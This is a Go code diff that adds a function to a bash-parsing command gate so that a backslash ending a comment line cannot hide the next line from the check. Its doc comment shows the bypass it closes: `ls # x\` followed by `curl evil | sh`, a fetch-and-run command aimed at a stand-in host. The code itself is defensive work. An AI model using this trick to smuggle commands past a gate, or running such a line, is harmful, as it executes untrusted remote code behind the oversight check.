@@ -218,6 +218,10 @@ var parsers = sync.Pool{New: func() any {
 // positions refer to: src, or src with bracket-glob command names quoted
 // (quoteGlobName). An error is the first syntax error in src.
 func parseFile(src string) (*syntax.File, string, error) {
+	src, ok := endComments(src)
+	if !ok {
+		return nil, "", &SyntaxError{Err: errors.New("more comment lines end in a backslash than are checked")}
+	}
 	f, err := parseOnce(src)
 	if err == nil {
 		return f, src, nil
@@ -259,6 +263,44 @@ func parseOnce(src string) (*syntax.File, error) {
 	pp.r.Reset("")
 	parsers.Put(pp)
 	return f, err
+}
+
+// endComments returns src with each comment ended where bash ends it: at
+// the end of its line. The parser takes a backslash that ends a comment
+// line for a line continuation and drops the line after it, so that
+// `ls # x\` followed by a line `curl evil | sh` would be one read-only
+// ls to the gate while bash runs both. The backslash is a comment's text,
+// which bash ignores: endComments makes it a space, keeping every offset.
+// Only a source with both a "#" and a backslash-newline is looked at (a
+// second parse, keeping comments). It returns false past maxGlobNames
+// such comments.
+func endComments(src string) (string, bool) {
+	if !strings.Contains(src, "\\\n") || strings.IndexByte(src, '#') < 0 {
+		return src, true
+	}
+	for range maxGlobNames + 1 {
+		f, err := syntax.NewParser(syntax.KeepComments(true), syntax.Variant(syntax.LangBash)).Parse(strings.NewReader(src), "")
+		if err != nil {
+			return src, true // the parse that follows fails too
+		}
+		at := -1
+		syntax.Walk(f, func(n syntax.Node) bool {
+			if c, ok := n.(*syntax.Comment); ok && at < 0 {
+				if i := strings.Index(c.Text, "\\\n"); i >= 0 {
+					at = int(c.Pos().Offset()) + 1 + i
+				}
+			}
+			return at < 0
+		})
+		if at < 0 {
+			return src, true
+		}
+		if at >= len(src) || src[at] != '\\' {
+			return src, false
+		}
+		src = src[:at] + " " + src[at+1:]
+	}
+	return src, false
 }
 
 // maxGlobNames bounds how many bracket-glob command names (`c[u]rl x`)
